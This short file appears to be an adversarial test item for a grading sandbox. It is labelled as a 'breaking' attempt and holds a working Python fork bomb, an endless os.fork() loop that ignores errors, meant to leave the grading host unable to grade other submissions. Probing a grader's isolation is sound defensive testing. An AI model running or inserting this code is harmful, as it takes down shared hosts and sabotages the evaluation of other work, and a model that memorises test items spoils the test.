# family = "breaking"
# tries = "A fork bomb: every process starts two more."
# could_earn = "A host on which no other submission can be graded."
# boxed_only = true

# %% extra
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
